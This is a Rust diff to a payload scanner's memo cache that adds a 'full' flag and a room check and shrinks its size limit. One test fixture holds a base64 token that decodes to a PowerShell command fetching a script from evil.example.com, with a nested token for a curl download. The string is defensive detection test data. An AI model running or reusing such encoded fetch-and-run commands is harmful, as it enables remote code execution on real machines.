@@ -308,8 +308,14 @@ impl Scanner {
             }
             return;
         }
-        let mut found = Vec::new();
         let outer = Some(span);
+        if !memo.has_room(text) {
+            // Recording costs a copy of each detection, which a full
+            // memo would throw away.
+            self.scan_window(text.as_bytes(), depth, outer, memo, emit);
+            return;
+        }
+        let mut found = Vec::new();
         self.scan_window(text.as_bytes(), depth, outer, memo, &mut |lent| {
             found.push(lent.detection().clone());
             emit(lent);
@@ -326,25 +332,40 @@ impl Scanner {
 struct PayloadMemo {
     /// One map per depth, from payload text to its detections.
     scanned: Vec<HashMap<Box<str>, Box<[Detection]>, RandomState>>,
-    /// Bytes held by the texts and detections.
-    held: usize,
+    /// Bytes taken by the texts and detections kept.
+    used_bytes: usize,
     max_bytes: usize,
+    /// Set when a payload's detections did not fit: later payloads are
+    /// then neither recorded nor kept.
+    full: bool,
 }
 
 impl Default for PayloadMemo {
     fn default() -> PayloadMemo {
-        PayloadMemo { scanned: Vec::new(), held: 0, max_bytes: MEMO_MAX_BYTES }
+        PayloadMemo {
+            scanned: Vec::new(),
+            used_bytes: 0,
+            max_bytes: MEMO_MAX_BYTES,
+            full: false,
+        }
     }
 }
 
-/// Most bytes a [`PayloadMemo`] holds; past it, new payloads are scanned
-/// each time they occur.
-const MEMO_MAX_BYTES: usize = 1 << 20;
+/// Maximum bytes a [`PayloadMemo`] keeps. Past it, new payloads are
+/// scanned each time they occur.
+const MEMO_MAX_BYTES: usize = 1 << 18;
 
 impl PayloadMemo {
     fn get(&self, depth: u8, text: &str) -> Option<&[Detection]> {
         let scanned = self.scanned.get(usize::from(depth))?;
         scanned.get(text).map(|found| &**found)
+    }
+
+    /// Reports whether `text` may still be kept. Its detections may not
+    /// fit, and [`PayloadMemo::insert`] then marks the memo full.
+    fn has_room(&self, text: &str) -> bool {
+        !self.full
+            && self.used_bytes.saturating_add(text.len()) <= self.max_bytes
     }
 
     fn insert(&mut self, depth: u8, text: &str, found: Vec<Detection>) {
@@ -354,9 +375,12 @@ impl PayloadMemo {
                 .saturating_add(detection.value.len())
                 .saturating_add(decoded)
         });
-        let held =
-            self.held.saturating_add(text.len()).saturating_add(detections);
-        if held > self.max_bytes {
+        let used_bytes = self
+            .used_bytes
+            .saturating_add(text.len())
+            .saturating_add(detections);
+        if used_bytes > self.max_bytes {
+            self.full = true;
             return;
         }
         let depth = usize::from(depth);
@@ -365,7 +389,7 @@ impl PayloadMemo {
                 .resize_with(depth.saturating_add(1), HashMap::default);
         }
         if let Some(scanned) = self.scanned.get_mut(depth) {
-            self.held = held;
+            self.used_bytes = used_bytes;
             scanned.insert(Box::from(text), found.into_boxed_slice());
         }
     }
@@ -712,7 +736,7 @@ mod tests {
     #[test]
     fn repeated_payload_replays_its_detections() {
         // Decodes to a command with a URL and a second base64 token,
-        // whose payload holds another URL.
+        // whose payload contains another URL.
         let token = "cG93ZXJzaGVsbCAtYyBpd3IgaHR0cDovL2V2aWwuZXhhbXBsZS5jb\
             20vYS5wczEgOyBlY2hvIFkzVnliQ0JvZEhSd09pOHZhVzV1WlhJdVpYaGhiWEJz\
             WlM1dVpYUXZlQzV6YUE9PQ==";
@@ -780,7 +804,9 @@ mod tests {
         for depth in 1..=8 {
             memo.insert(depth, &text, Vec::new());
         }
-        assert!(memo.held <= MEMO_MAX_BYTES);
+        assert!(memo.used_bytes <= MEMO_MAX_BYTES);
+        assert!(memo.full);
+        assert!(!memo.has_room("y"));
         assert!(memo.get(1, &text).is_some());
         assert!(memo.get(8, &text).is_none());
         assert!(memo.get(1, "y").is_none());
